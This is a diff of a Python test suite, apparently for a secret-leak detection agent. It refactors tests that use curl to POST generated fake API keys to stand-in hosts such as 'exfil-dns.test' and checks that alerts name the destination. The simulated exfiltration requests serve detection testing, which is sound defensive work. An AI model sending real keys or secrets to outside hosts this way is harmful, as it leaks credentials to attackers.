@@ -159,23 +159,32 @@ def _alerts_text(agent, alerts) -> str:
     return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]
 
 
+def _post_key(clients, registry, scratch, dns, kind: str, url: str, tcp: bool = False) -> None:
+    """curl POSTs a fresh `kind` key as JSON to `url`, its name resolved through `dns`."""
+    body = scratch / "body.json"
+    body.write_text(json.dumps({"api_key": registry.new(kind)}))
+    clients.run(_with_resolver(dns.resolv_conf(scratch, tcp=tcp), _curl_post(url, body)))
+
+
+def _destination(agent, provider: str) -> tuple[dict, str]:
+    """The first `provider` alert's destination, and the alerts as text for a failure."""
+    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == provider,
+                                   timeout=ALERT_TIMEOUT)
+    assert alerts, f"no alert\n{agent.diagnostics()}"
+    return alerts[0]["destination"], _alerts_text(agent, alerts)
+
+
 def test_plain_http_to_a_name_resolved_by_dns_alerts_with_that_name(
         agent, clients, http_server, dns_server, registry, scratch):
     dns = dns_server({"exfil-dns.test": "127.0.0.1"})
-    key = registry.new("openai")
-    body = scratch / "body.json"
-    body.write_text(json.dumps({"api_key": key}))
-    url = f"http://exfil-dns.test:{http_server.port}/v1/collect"
-    clients.run(_with_resolver(dns.resolv_conf(scratch), _curl_post(url, body)))
+    _post_key(clients, registry, scratch, dns, "openai",
+              f"http://exfil-dns.test:{http_server.port}/v1/collect")
     assert "exfil-dns.test" in dns.queries, "curl did not resolve through the test DNS server"
     assert http_server.wait_for_requests(1), "the request never reached the server"
 
-    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == "openai",
-                                   timeout=ALERT_TIMEOUT)
-    assert alerts, f"no alert\n{agent.diagnostics()}"
-    dest = alerts[0]["destination"]
+    dest, shown = _destination(agent, "openai")
     assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
-        "exfil-dns.test", "dns", "127.0.0.1", http_server.port), _alerts_text(agent, alerts)
+        "exfil-dns.test", "dns", "127.0.0.1", http_server.port), shown
     assert _wait_counter(agent, "dns_addresses_learned") >= 1
 
 
@@ -184,20 +193,13 @@ def test_a_name_resolved_over_tcp_names_the_destination_too(
     # resolv.conf "options use-vc": glibc asks over TCP and reads the answer with read(), the
     # length prefix and the message apart.
     dns = dns_server({"exfil-tcp.test": "127.0.0.1"})
-    key = registry.new("anthropic")
-    body = scratch / "body.json"
-    body.write_text(json.dumps({"api_key": key}))
-    url = f"http://exfil-tcp.test:{http_server.port}/v1/messages"
-    clients.run(_with_resolver(dns.resolv_conf(scratch, tcp=True), _curl_post(url, body)))
+    _post_key(clients, registry, scratch, dns, "anthropic",
+              f"http://exfil-tcp.test:{http_server.port}/v1/messages", tcp=True)
     assert dns.tcp_queries >= 1, "curl did not resolve over TCP"
     assert http_server.wait_for_requests(1)
 
-    alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == "anthropic",
-                                   timeout=ALERT_TIMEOUT)
-    assert alerts, f"no alert\n{agent.diagnostics()}"
-    dest = alerts[0]["destination"]
-    assert (dest["host"], dest["name_source"]) == ("exfil-tcp.test", "dns"), (
-        _alerts_text(agent, alerts))
+    dest, shown = _destination(agent, "anthropic")
+    assert (dest["host"], dest["name_source"]) == ("exfil-tcp.test", "dns"), shown
 
 
 def test_an_aaaa_answer_names_an_ipv6_destination(
@@ -205,19 +207,13 @@ def test_an_aaaa_answer_names_an_ipv6_destination(
     dns = dns_server({"exfil-v6.test": "::1"})
     server = RecordingServer(host="::1")
     try:
-        key = registry.new("openai")
-        body = scratch / "body.json"
-        body.write_text(json.dumps({"api_key": key}))
-        url = f"http://exfil-v6.test:{server.port}/v1/collect"
-        clients.run(_with_resolver(dns.resolv_conf(scratch), _curl_post(url, body)))
+        _post_key(clients, registry, scratch, dns, "openai",
+                  f"http://exfil-v6.test:{server.port}/v1/collect")
         assert server.wait_for_requests(1), "the request never reached the server on ::1"
 
-        alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == "openai",
-                                       timeout=ALERT_TIMEOUT)
-        assert alerts, f"no alert\n{agent.diagnostics()}"
-        dest = alerts[0]["destination"]
+        dest, shown = _destination(agent, "openai")
         assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
-            "exfil-v6.test", "dns", "::1", server.port), _alerts_text(agent, alerts)
+            "exfil-v6.test", "dns", "::1", server.port), shown
     finally:
         server.close()
 
@@ -228,11 +224,8 @@ def test_plain_http_to_the_expected_provider_name_from_dns_is_quiet(
     address the resolver gave for api.openai.com is an expected destination, as it is with SNI.
     The counter proves the key was seen and judged, not missed."""
     dns = dns_server({"api.openai.com": "127.0.0.1"})
-    key = registry.new("openai")
-    body = scratch / "body.json"
-    body.write_text(json.dumps({"api_key": key}))
-    url = f"http://api.openai.com:{http_server.port}/v1/chat/completions"
-    clients.run(_with_resolver(dns.resolv_conf(scratch), _curl_post(url, body)))
+    _post_key(clients, registry, scratch, dns, "openai",
+              f"http://api.openai.com:{http_server.port}/v1/chat/completions")
     assert http_server.wait_for_requests(1)
 
     assert _wait_counter(agent, "secrets_to_expected_destinations") >= 1, agent.diagnostics()
